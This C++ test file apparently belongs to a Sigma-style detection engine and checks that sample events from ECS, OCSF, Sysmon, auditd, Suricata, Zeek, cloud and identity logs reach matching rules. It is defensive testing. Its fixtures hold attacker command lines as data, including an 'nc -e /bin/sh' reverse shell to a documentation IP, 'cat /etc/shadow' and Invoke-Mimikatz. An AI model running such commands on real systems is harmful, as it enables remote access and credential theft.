// The formats that the built-in mappings know: an event of each as its product writes it, and a rule in the
// names of the taxonomy that must see it, under strict routing.
#include "condition/logsource.hpp"
#include "condition_fixture.hpp"

using namespace csirt::condition;
using namespace csirt::condition::test;

namespace {

struct Row {
  const char* format;
  const char* logsource;
  const char* items;
  const char* event;
};

constexpr const char* kCreation = "{category: process_creation, product: windows}";
constexpr const char* kLinuxCreation = "{category: process_creation, product: linux}";

const Row kEndpoints[] = {
    {"ECS, process of Elastic's agent", kCreation,
     R"(Image|endswith: '\cmd.exe', CommandLine|contains: whoami, ParentImage|endswith: '\winword.exe')",
     R"({"@timestamp":"2026-01-01T00:00:00Z","event":{"category":["process"],"type":["start"]},"host":{"os":{"type":"windows"}},)"
     R"("process":{"executable":"C:\\Windows\\System32\\cmd.exe","command_line":"cmd /c whoami","parent":{"executable":"C:\\Office\\WINWORD.EXE"}}})"},
    {"ECS, Winlogbeat's Sysmon module, which renames fields", kCreation,
     R"(Image|endswith: '\cmd.exe', User: ada, OriginalFileName: Cmd.Exe)",
     R"({"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":1},"user":{"name":"ada"},)"
     R"("process":{"executable":"C:\\Windows\\cmd.exe","pe":{"original_file_name":"Cmd.Exe"}}})"},
    {"ECS, Winlogbeat without modules", kCreation, R"(Image|endswith: '\cmd.exe')",
     R"({"winlog":{"channel":"Security","event_id":"4688","event_data":{"NewProcessName":"C:\\Windows\\cmd.exe"}}})"},
    {"ECS, flat keys", kLinuxCreation, "Image|endswith: /curl, CommandLine|contains: ' -o '",
     R"({"event.category":"process","event.type":"start","host.os.type":"linux","process.executable":"/usr/bin/curl",)"
     R"("process.command_line":"curl -o x http://x"})"},
    {"ECS, Auditbeat", kLinuxCreation, "Image: /usr/bin/id, CommandLine: id",
     R"({"event":{"module":"auditd","action":"executed"},"process":{"executable":"/usr/bin/id","args":["id","-u"]}})"},
    {"ECS, file", "{category: file_event, product: windows}",
     R"(TargetFilename|endswith: .ps1, Image|endswith: x.exe)",
     R"({"event":{"category":["file"],"type":["creation"]},"host":{"os":{"type":"windows"}},"file":{"path":"C:\\a.ps1"},"process":{"executable":"C:\\x.exe"}})"},
    {"ECS, network connection", "{category: network_connection, product: windows}",
     "DestinationPort: 4444, DestinationIp|cidr: 203.0.113.0/24, Image|endswith: x.exe",
     R"({"event":{"category":["network"]},"host":{"os":{"type":"windows"}},"destination":{"ip":"203.0.113.7","port":4444},"process":{"executable":"C:\\x.exe"}})"},
    {"ECS, registry", "{category: registry_set, product: windows}",
     R"(TargetObject|contains: '\Run\', Details: x.exe)",
     R"({"event":{"category":["registry"],"type":["change"]},"registry":{"path":"HKLM\\Software\\Run\\a","data":{"strings":["x.exe"]}}})"},
    {"ECS, library", "{category: image_load, product: windows}", R"(ImageLoaded|endswith: '\evil.dll')",
     R"({"event":{"category":["library"],"type":["start"]},"host":{"os":{"type":"windows"}},"dll":{"path":"C:\\evil.dll"}})"},
    {"ECS, script block of Winlogbeat's PowerShell module", "{category: ps_script, product: windows}",
     "ScriptBlockText|contains: Invoke-Mimikatz",
     R"({"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_id":4104},"powershell":{"file":{"script_block_text":"Invoke-Mimikatz"}}})"},
    {"OCSF 1007", kCreation,
     R"(Image|endswith: '\cmd.exe', CommandLine|contains: whoami, ParentImage|endswith: '\winword.exe', ProcessId: 7)",
     R"({"class_uid":1007,"activity_id":1,"device":{"os":{"type_id":100}},"process":{"pid":7,"cmd_line":"cmd /c whoami","file":{"path":"C:\\Windows\\cmd.exe"}},)"
     R"("actor":{"process":{"pid":3,"file":{"path":"C:\\Office\\winword.exe"}}}})"},
    {"OCSF 1007 of Linux", kLinuxCreation, "Image: /usr/bin/id, ParentImage: /bin/sh",
     R"({"class_uid":1007,"activity_id":1,"device":{"os":{"type":"Linux"}},"process":{"file":{"path":"/usr/bin/id"},"parent_process":{"file":{"path":"/bin/sh"}}},)"
     R"("actor":{"process":{"file":{"path":"/sbin/init"}}}})"},
    {"OCSF 1001", "{category: file_event, product: linux}",
     "TargetFilename|startswith: /etc/, Image: /bin/vi",
     R"({"class_uid":1001,"activity_id":1,"device":{"os":{"type_id":200}},"file":{"path":"/etc/cron.d/x"},"actor":{"process":{"file":{"path":"/bin/vi"}}}})"},
    {"OCSF 4003", "{category: dns}", "query|endswith: .evil.example, answer: 203.0.113.9",
     R"({"class_uid":4003,"query":{"hostname":"a.evil.example","type":"A"},"answers":[{"rdata":"203.0.113.9"}]})"},
    {"OCSF 4002", "{category: proxy}", "c-uri|contains: /gate.php, cs-method: POST, c-useragent: curl",
     R"({"class_uid":4002,"http_request":{"http_method":"POST","user_agent":"curl","url":{"url_string":"http://x/gate.php"}}})"},
    {"OCSF 4001", "{category: firewall}", "dst_ip: 203.0.113.9, dst_port: 53, action: Allowed",
     R"({"class_uid":4001,"action":"Allowed","src_endpoint":{"ip":"10.0.0.1"},"dst_endpoint":{"ip":"203.0.113.9","port":53}})"},
    {"Sysmon, EVTX as JSON", kCreation, R"(Image|endswith: '\cmd.exe', Computer: h1)",
     R"({"Event":{"System":{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"h1"},"EventData":{"Image":"C:\\cmd.exe"}}})"},
    {"Windows, flat", "{product: windows, service: system}",
     "Provider_Name: 'Service Control Manager', EventID: 7045",
     R"({"Channel":"System","EventID":7045,"SourceName":"Service Control Manager"})"},
    {"Sysmon for Linux", kLinuxCreation, "Image: /usr/bin/id",
     R"({"Event":{"System":{"Provider":{"#attributes":{"Name":"Linux-Sysmon"}},"EventID":1},"EventData":{"Image":"/usr/bin/id"}}})"}};

const Row kLinux[] = {
    {"auditd, arguments", "{product: linux, service: auditd}", "type: EXECVE, a0: cat, a1|endswith: shadow",
     R"({"type":"EXECVE","argc":"2","a0":"cat","a1":"/etc/shadow"})"},
    {"auditd, call", "{product: linux, service: auditd}",
     "type: SYSCALL, exe|endswith: /insmod, key: modules",
     R"({"type":"SYSCALL","syscall":"313","exe":"/sbin/insmod","comm":"insmod","key":"modules"})"},
    {"auditd, path", "{product: linux, service: auditd}", "type: PATH, name: /etc/issue",
     R"({"type":"PATH","item":"0","name":"/etc/issue","inode":"42","nametype":"NORMAL"})"},
    {"auditd by Filebeat", "{product: linux, service: auditd}", "type: EXECVE, a0: cat, a1|endswith: shadow",
     R"({"event":{"dataset":"auditd.log"},"auditd":{"log":{"record_type":"EXECVE","a0":"cat","a1":"/etc/shadow"}}})"},
    {"auditd, a call that starts a program", kLinuxCreation, "Image: /usr/bin/id, ParentProcessId: 4",
     R"({"type":"SYSCALL","SYSCALL":"execve","exe":"/usr/bin/id","pid":"5","ppid":"4"})"},
    {"auditd, title", kLinuxCreation, "CommandLine|contains|all: [nc, ' -e ']",
     R"({"type":"PROCTITLE","proctitle":"nc -e /bin/sh 203.0.113.1 4444"})"},
    {"journal, sshd", "{product: linux, service: sshd}", "MESSAGE|contains: 'Invalid user'",
     R"({"_TRANSPORT":"syslog","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Invalid user x from 203.0.113.1"})"},
    {"syslog, sudo", "{product: linux, service: sudo}", "USER|startswith: '#-'",
     R"({"appname":"sudo","USER":"#-1"})"},
    {"Filebeat, system log", "{product: linux, service: auth}", "message|contains: pkexec",
     R"({"event":{"dataset":"system.auth"},"message":"pkexec: The value for x"})"},
    {"journal, any program", "{product: linux}", "MESSAGE|contains: 'entered promiscuous mode'",
     R"({"SYSLOG_IDENTIFIER":"kernel","MESSAGE":"eth0: entered promiscuous mode"})"}};

const Row kNetwork[] = {
    {"Suricata, DNS query", "{category: dns}", "query|endswith: .top, record_type: TXT",
     R"({"event_type":"dns","flow_id":1,"dns":{"type":"query","rrname":"a.top","rrtype":"TXT"}})"},
    {"Suricata, DNS answer of version 3", "{category: dns}", "query: a.top, answer|contains: cmd.exe",
     R"({"event_type":"dns","flow_id":1,"dns":{"version":3,"queries":[{"rrname":"a.top"}],"answers":[{"rdata":"cmd.exe"}]}})"},
    {"Suricata, HTTP", "{category: proxy}",
     "c-uri|endswith: .exe, cs-host|endswith: .top, c-useragent: curl, sc-status: 200",
     R"({"event_type":"http","flow_id":1,"http":{"url":"/a.exe","hostname":"b.top","http_user_agent":"curl","status":200}})"},
    {"Suricata, HTTP to a web server", "{category: webserver}",
     "cs-uri-query|contains: '/ecp/', cs-method: POST",
     R"({"event_type":"http","flow_id":1,"http":{"url":"/ecp/x?y","http_method":"POST"}})"},
    {"Suricata, flow", "{category: firewall}", "dst_ip: 203.0.113.1, dst_port: 21",
     R"({"event_type":"flow","flow_id":1,"src_ip":"10.0.0.1","dest_ip":"203.0.113.1","dest_port":21})"},
    {"Suricata, flow in the terms of the generic category", "{category: network, service: connection}",
     "destination.ip: 203.0.113.1, network.transport: tcp",
     R"({"event_type":"flow","flow_id":1,"dest_ip":"203.0.113.1","proto":"TCP"})"},
    {"Zeek, DNS", "{product: zeek, service: dns}", "query|endswith: .top, qtype_name: TXT",
     R"({"_path":"dns","uid":"C1","id.orig_h":"10.0.0.1","query":"a.top","qtype_name":"TXT"})"},
    {"Zeek, DNS as any name server's", "{category: dns}", "query|endswith: .top, answer: 203.0.113.1",
     R"({"_path":"dns","uid":"C1","query":"a.top","answers":["203.0.113.1"]})"},
    {"Zeek, HTTP", "{product: zeek, service: http}", "c-uri|contains: webdav, c-useragent: WebDAV",
     R"({"_path":"http","uid":"C1","uri":"/webdav/a","user_agent":"WebDAV"})"},
    {"Zeek, RPC", "{product: zeek, service: dce_rpc}", "endpoint: spoolss, operation: RpcAddPrinterDriverEx",
     R"({"_path":"dce_rpc","uid":"C1","endpoint":"spoolss","operation":"RpcAddPrinterDriverEx"})"},
    {"IIS, W3C", "{category: webserver}", "cs-uri-stem|endswith: .aspx, cs-method: POST, sc-status: 200",
     R"({"cs-method":"POST","cs-uri-stem":"/owa/a.aspx","cs-uri-query":"-","sc-status":200})"},
    {"nginx by Filebeat", "{category: webserver}", "cs-uri-query|contains: '../', sc-status: 404",
     R"({"event":{"dataset":"nginx.access"},"url":{"original":"/a/../../b"},"http":{"response":{"status_code":404}}})"},
    {"proxy, W3C", "{category: proxy}", "c-uri|endswith: /gate.php, cs-method: POST",
     R"({"c-uri":"http://x/gate.php","cs-method":"POST"})"},
    {"name server under the names of the appendix", "{category: dns}", "query: a.top",
     R"({"query":"a.top","record_type":"A"})"},
    {"firewall under the names of the appendix", "{category: firewall}",
     "dst_ip: 203.0.113.1, action: accept",
     R"({"src_ip":"10.0.0.1","dst_ip":"203.0.113.1","dst_port":"443","action":"accept"})"},
    {"FortiGate", "{product: fortigate, service: event}", "cfgpath: user.local, action: Add",
     R"({"devid":"FG100","logid":"0100044547","type":"event","cfgpath":"user.local","action":"Add"})"},
    {"Duo", "{product: cisco, service: duo}", "reason: bypass_user",
     R"({"event_type":"authentication","txid":"1","factor":"duo_push","reason":"bypass_user"})"}};

const Row kCloud[] = {
    {"CloudTrail", "{product: aws, service: cloudtrail}",
     "eventName: CreateAccessKey, userIdentity.type: IAMUser",
     R"({"eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","userIdentity":{"type":"IAMUser"}})"},
    {"CloudTrail by Filebeat", "{product: aws, service: cloudtrail}",
     "eventSource: iam.amazonaws.com, eventName: CreateUser",
     R"({"event":{"dataset":"aws.cloudtrail","provider":"iam.amazonaws.com","action":"CreateUser"}})"},
    {"CloudTrail in OCSF", "{product: aws, service: cloudtrail}",
     "eventSource: iam.amazonaws.com, eventName: CreateUser",
     R"({"class_uid":6003,"metadata":{"product":{"name":"CloudTrail"}},"api":{"operation":"CreateUser","service":{"name":"iam.amazonaws.com"}}})"},
    {"Azure activity", "{product: azure, service: activitylogs}", "operationName|endswith: /WRITE",
     R"({"resourceId":"/SUBSCRIPTIONS/1","category":"Administrative","operationName":"MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE"})"},
    {"Azure activity, table", "{product: azure, service: activitylogs}", "operationName|endswith: /DELETE",
     R"({"OperationNameValue":"MICROSOFT.NETWORK/FIREWALLS/DELETE","CategoryValue":"Administrative"})"},
    {"Entra audit", "{product: azure, service: auditlogs}",
     "properties.message: Add member to role, LoggedByService: Core Directory",
     R"({"category":"AuditLogs","operationName":"Add member to role","properties":{"activityDisplayName":"Add member to role","loggedByService":"Core Directory"}})"},
    {"Entra sign-in", "{product: azure, service: signinlogs}", "ResultType: 50057",
     R"({"category":"SignInLogs","operationName":"Sign-in activity","resultType":"50057"})"},
    {"Entra risk", "{product: azure, service: riskdetection}", "riskEventType: unlikelyTravel",
     R"({"riskEventType":"unlikelyTravel","riskState":"atRisk"})"},
    {"PIM", "{product: azure, service: pim}", "riskEventType: staleSignInAlertIncident",
     R"({"riskEventType":"staleSignInAlertIncident"})"},
    {"Microsoft 365", "{product: m365, service: audit}",
     "Operation: New-InboxRule, Parameters|contains: ForwardTo",
     R"({"Workload":"Exchange","Operation":"New-InboxRule","RecordType":1,"Parameters":[{"Name":"ForwardTo","Value":"x"}]})"},
    {"Microsoft 365, Exchange", "{product: m365, service: exchange}",
     "eventSource: Exchange, eventName: Add-FederatedDomain",
     R"({"Workload":"Exchange","Operation":"Add-FederatedDomain","RecordType":1})"},
    {"Microsoft 365, compliance center", "{product: m365, service: threat_management}",
     "eventName: Impossible travel activity",
     R"({"eventSource":"SecurityComplianceCenter","eventName":"Impossible travel activity","status":"success"})"},
    {"Google Cloud", "{product: gcp, service: gcp.audit}", "gcp.audit.method_name|endswith: Firewalls.Delete",
     R"({"logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity","protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","methodName":"v1.compute.firewalls.delete"}})"},
    {"Google Workspace", "{product: gcp, service: google_workspace.admin}",
     "eventService: admin.googleapis.com, eventName: REMOVE_PRIVILEGE",
     R"({"protoPayload":{"serviceName":"admin.googleapis.com","metadata":{"event":[{"eventName":"REMOVE_PRIVILEGE"}]}}})"},
    {"GitHub", "{product: github, service: audit}", "action: repo.destroy",
     R"({"action":"repo.destroy","actor":"ada","org":"acme","_document_id":"x"})"},
    {"GitHub in OCSF", "{product: github, service: audit}", "action: git.push",
     R"({"class_uid":6003,"metadata":{"event_code":"git.push","product":{"name":"GitHub Audit Log"}}})"},
    {"Okta", "{product: okta, service: okta}",
     "eventType: user.session.impersonation.grant, actor.alternateId: ada",
     R"({"eventType":"user.session.impersonation.grant","published":"2026-01-01","actor":{"alternateId":"ada"},"outcome":{"result":"SUCCESS"}})"},
    {"Okta by Filebeat", "{product: okta, service: okta}", "eventType: policy.rule.update",
     R"({"event":{"dataset":"okta.system"},"okta":{"event_type":"policy.rule.update"}})"},
    {"OneLogin", "{product: onelogin, service: onelogin.events}", "event_type_id: 532",
     R"({"event_type_id":532,"account_id":1})"},
    {"Bitbucket", "{product: bitbucket, service: audit}", "auditType.category: Authentication",
     R"({"auditType":{"category":"Authentication","action":"User login failed"}})"},
    {"Kubernetes", "{category: application, product: kubernetes, service: audit}",
     "verb: create, objectRef.subresource: exec",
     R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","verb":"create","objectRef":{"resource":"pods","subresource":"exec"}})"},
    {"OpenCanary", "{category: application, product: opencanary}", "logtype: 5005",
     R"({"logtype":5005,"node_id":"c1","logdata":{}})"},
    {"RPC Firewall", "{category: application, product: rpc_firewall}",
     "EventLog: RPCFW, EventID: 3, OpNum: 1", R"({"EventLog":"RPCFW","EventID":3,"OpNum":1})"},
    {"antivirus under the names of the appendix", "{category: antivirus}", "Signature|contains: Mimikatz",
     R"({"Signature":"HTool/Mimikatz","Filename":"C:\\x.exe","Action":"delete"})"},
    {"Microsoft Defender", "{category: antivirus}", "Signature|contains: Mimikatz",
     R"({"Channel":"Microsoft-Windows-Windows Defender/Operational","EventID":1116,"ThreatName":"HTool/Mimikatz"})"}};

template <std::size_t n>
void check(const Row (&rows)[n]) {
  for (const Row& row : rows) {
    CAPTURE(std::string(row.format));
    const std::string items = "sel: {" + std::string(row.items) + "}\ncondition: sel";
    const auto rules = one_rule(items, row.logsource);
    CHECK(rules->info(0).routed);
    CHECK(matches(rules, row.event, Routing::strict));
    const auto elsewhere = one_rule(items, "{category: elsewhere}");
    CHECK_FALSE(matches(elsewhere, row.event, Routing::strict));
  }
}

bool seen(const char* logsource, const char* event) {
  return matches(one_rule("sel: {x: 1}\ncondition: sel", logsource), event, Routing::strict);
}

}  // namespace

TEST_CASE("events of endpoints: ECS, OCSF, Windows, Sysmon") { check(kEndpoints); }
TEST_CASE("events of Linux: the audit daemon, the journal, syslog") { check(kLinux); }
TEST_CASE("events of the network: Suricata, Zeek, web servers, proxies, firewalls") { check(kNetwork); }
TEST_CASE("events of the cloud and of applications") { check(kCloud); }

TEST_CASE("an event that says what it is is not taken for something else by its fields") {
  // Neither a file event nor a connection is the start of the process that did it.
  CHECK_FALSE(seen(
      kCreation,
      R"({"x":1,"event":{"category":["file"],"type":["creation"]},"host":{"os":{"type":"windows"}},"process":{"executable":"C:\\x.exe","command_line":"x"}})"));
  CHECK_FALSE(seen(
      kCreation,
      R"({"x":1,"class_uid":1001,"activity_id":1,"device":{"os":{"type_id":100}},"actor":{"process":{"cmd_line":"x","file":{"path":"C:\\x.exe"}}}})"));
  CHECK_FALSE(seen(
      kLinuxCreation,
      R"({"x":1,"class_uid":1007,"activity_id":1,"device":{"os":{"type_id":100}},"process":{"cmd_line":"x"}})"));
  CHECK_FALSE(seen(
      kCreation,
      R"({"x":1,"class_uid":1007,"activity_id":2,"device":{"os":{"type_id":100}},"process":{"cmd_line":"x"}})"));
  CHECK_FALSE(seen(
      "{category: network_connection, product: linux}",
      R"({"x":1,"event":{"category":["network"]},"host":{"os":{"type":"linux"}},"destination":{"ip":"203.0.113.1"}})"));
  // Words that others use too.
  CHECK_FALSE(seen("{product: linux, service: auditd}", R"({"x":1,"type":"PATH","name":"a"})"));
  CHECK_FALSE(seen("{product: linux, service: auditd}", R"({"x":1,"type":"execve"})"));
  CHECK_FALSE(seen("{product: github, service: audit}", R"({"x":1,"action":"allow","actor":"a"})"));
  CHECK_FALSE(seen("{category: dns}", R"({"x":1,"event_type":"dns"})"));
}

TEST_CASE("the built-in mappings have no mistakes") {
  const auto rules = RuleSet::from_texts({});
  for (const csirt::Problem& problem : rules->problems()) FAIL(format(problem));
  CHECK(builtin_mappings().size() == 8);
  for (const NamedText& file : builtin_mappings()) CHECK(!file.text.empty());
}
